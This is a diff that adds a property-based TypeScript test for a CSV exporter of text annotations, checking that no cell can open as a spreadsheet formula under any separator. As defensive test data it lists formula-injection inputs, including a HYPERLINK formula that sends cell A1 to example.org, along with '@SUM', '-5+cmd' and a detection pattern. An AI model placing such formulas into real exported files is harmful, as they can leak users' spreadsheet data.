@@ -1,0 +1,84 @@
+import assert from 'node:assert/strict';
+import fc from 'fast-check';
+import { csv, inertCell, readCsv, textOfCell } from '../../../../src/core/exchange/csv';
+
+const options = { numRuns: Number(process.env.RUNS ?? 3000) };
+const hardText = fc.string({
+  unit: fc.constantFrom(...'=+-@＝\'";,\t\r\n 5x'),
+  maxLength: 12,
+});
+
+describe('cells of a table', () => {
+  it('are no formulas, whatever separates them for who reads them', () => {
+    fc.assert(
+      fc.property(hardText, hardText, (id, text) => {
+        const annotation = { start: 0, end: 1, text, kind: 'drug', entity: 'x', ids: ['HGNC:1'] };
+        const table = csv.head + csv.write({ id, text, annotations: [annotation] });
+        for (const separator of ',;\t') {
+          for (const cell of cellsOf(table, separator)) {
+            assert.doesNotMatch(cell, /^(?!-\d+$)(?:[\t\r\n]|\s*[=+\-@＝＋－＠])/, separator);
+          }
+        }
+        assert.deepEqual(readCsv(table), new Map([[id, [annotation]]]));
+      }),
+      options,
+    );
+  });
+
+  it('give back their text, and are changed only where they must be', () => {
+    fc.assert(
+      fc.property(hardText, (text) => assert.equal(textOfCell(inertCell(text)), text)),
+      options,
+    );
+    const row = csv.write({
+      id: '-5',
+      text: '-5',
+      annotations: [{ start: 0, end: 2, text: '-5', kind: 'drug', entity: 'x', ids: [] }],
+    });
+    assert.equal(row, "'-5,0,2,0,2,-5,drug,x,\r\n");
+    const link = '=HYPERLINK("http://example.org/?"&A1;"IL-6")';
+    assert.equal(inertCell(link), `'${link}`);
+    for (const plain of ['IL-6', "'quoted'", 'a = b', 'x;y', '']) {
+      assert.equal(inertCell(plain), plain);
+    }
+    for (const cell of [
+      '-1β',
+      '+5',
+      '@SUM(1)',
+      ' =1',
+      '\t=1',
+      "'=1",
+      'x;=1',
+      '"=1"',
+      '-5+cmd',
+      'IL-4,\n-5',
+    ]) {
+      assert.notEqual(inertCell(cell), cell);
+    }
+  });
+});
+
+/** The cells that a spreadsheet finds; it takes a quotation mark for one only where a cell begins. */
+function cellsOf(table: string, separator: string): string[] {
+  const cells: string[] = [];
+  let cell = '';
+  let isQuoted = false;
+  let isNew = true;
+  for (let at = 0; at < table.length; at++) {
+    const unit = table.charAt(at);
+    if (isQuoted && unit === '"' && table.charAt(at + 1) === '"') {
+      cell += '"';
+      at++;
+    } else if (unit === '"' && (isQuoted || isNew)) {
+      isQuoted = !isQuoted;
+      isNew = false;
+    } else if (!isQuoted && (unit === separator || unit === '\r' || unit === '\n')) {
+      cells.push(cell);
+      [cell, isNew] = ['', true];
+    } else {
+      cell += unit;
+      isNew = false;
+    }
+  }
+  return [...cells, cell];
+}
